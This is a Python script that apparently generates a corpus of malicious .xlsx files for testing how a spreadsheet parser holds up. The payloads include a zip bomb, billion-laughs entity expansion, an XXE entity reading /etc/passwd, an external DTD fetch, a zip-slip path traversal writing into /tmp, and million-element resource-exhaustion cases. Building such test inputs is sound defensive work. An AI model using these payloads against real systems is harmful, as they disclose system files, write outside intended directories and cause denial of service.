"""book-bomb FOLDER: write workbooks that are meant to do harm."""
import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
EMPTY = "<worksheet><sheetData/></worksheet>"


def rels(*targets):
    return "<Relationships xmlns='%s'>%s</Relationships>" % (RELS, "".join(
        "<Relationship Id='%s' Type='%s/%s' Target='%s'/>" %
        (name, OFFICE, name, part) for name, part in targets))


def book(name, sheet=EMPTY, strings="<sst/>", more=()):
    path = "%s/%s.xlsx" % (sys.argv[1], name)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("_rels/.rels",
                     rels(("officeDocument", "xl/workbook.xml")))
        out.writestr("xl/workbook.xml", "<workbook xmlns='%s' xmlns:r='%s'>"
                     "<sheets><sheet name='a' r:id='worksheet'/></sheets>"
                     "</workbook>" % (MAIN, OFFICE))
        out.writestr("xl/_rels/workbook.xml.rels", rels(
            ("worksheet", "s.xml"), ("sharedStrings", "t.xml")))
        out.writestr("xl/s.xml", sheet)
        out.writestr("xl/t.xml", strings)
        for part, text in more:
            out.writestr(part, text)
    return path


def row(cells):
    return "<worksheet><sheetData><row>%s</row></sheetData></worksheet>" % \
        cells


# 200 MB in 200 kB.
book("bomb", row("<c><v>" + "0" * 200000000 + "</v></c>"))
inner = book("inner")
with zipfile.ZipFile(sys.argv[1] + "/nested.xlsx", "w") as out:
    out.write(inner, "inner.xlsx")
book("laughs", row("<c t='s'><v>0</v></c>"), "<!DOCTYPE sst [<!ENTITY a0 'ha'>"
     + "".join("<!ENTITY a%d '%s'>" % (n, "&a%d;" % (n - 1) * 10)
               for n in range(1, 10)) + "]><sst><si><t>&a9;</t></si></sst>")
book("xxe", "<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>"
     "<!ENTITY b SYSTEM 'http://127.0.0.1:9/x'>]>" +
     row("<c t='str'><v>&a;&b;</v></c>"))
book("dtd", "<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/x.dtd'>" + EMPTY)
book("strings", row("<c t='s'><v>999999</v></c>"), "<sst>" + "".join(
    "<si><t>text %d</t></si>" % n for n in range(1000000)) + "</sst>")
book("columns", row("<c><v>1</v></c>" * 1000000))
book("depth", row("<c>" * 1000000))
book("attributes", row("<c %s/>" % " ".join(
    "a%d='1'" % n for n in range(1000000))))
book("names", row("".join("<n%d/>" % n for n in range(1000000))))
book("slip", row("<c><v>1</v></c>"), more=[
    ("../../../../../../../tmp/hc-slip", "out"), ("/tmp/hc-slip", "out")])
book("merged", EMPTY.replace("<sheetData/>", "<sheetData>%s</sheetData>"
     "<mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>" %
     ("<row><c><v>1</v></c></row>" * 200000)))
book("parts", more=[("p%d" % n, "") for n in range(20000)])
